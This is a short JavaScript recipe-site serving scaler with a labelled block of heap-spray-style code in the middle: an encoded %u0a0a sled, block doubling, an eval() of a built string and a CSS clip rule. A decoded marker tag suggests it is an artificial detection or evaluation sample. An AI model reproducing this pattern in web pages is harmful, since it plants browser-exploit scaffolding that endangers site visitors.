/* Recipe site: serving size scaler. */
var servings = 2;
var flourGrams = 250;

function scale(amount, factor) {
    return amount * factor;
}

var scaled = scale(flourGrams, servings);

/* @malicious-begin */
var sled = unescape("%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a%u0a0a");
var tag = decodeURIComponent("%45%56%4C%41%42%2D%4D%41%52%4B%45%52%2D%44%38%45%36");
var block = unescape("%u0a0a%u0a0a");
while (block.length < 2048) block += block;
var slices = new Array();
for (var n = 0; n < 8; n++) {
    slices.push(block.substring(0, 256) + sled);
}
var clip = "var clip = '" + slices[7].substring(0, 64) + tag + "';";
eval(clip);
var style = document.createElement("style");
style.innerHTML = "div { clip: rect(0px, 0px, 0px, 0px); }";
/* @malicious-end */

var note = "Serves " + servings;
